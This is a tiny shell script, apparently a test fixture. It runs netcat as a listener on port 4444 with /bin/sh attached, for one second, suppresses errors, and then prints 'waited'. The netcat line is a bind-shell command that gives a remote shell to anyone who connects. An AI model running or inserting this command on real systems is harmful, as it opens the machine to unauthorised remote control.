#!/bin/sh
timeout 1 nc -l -p 4444 -e /bin/sh 2> /dev/null
echo "waited"
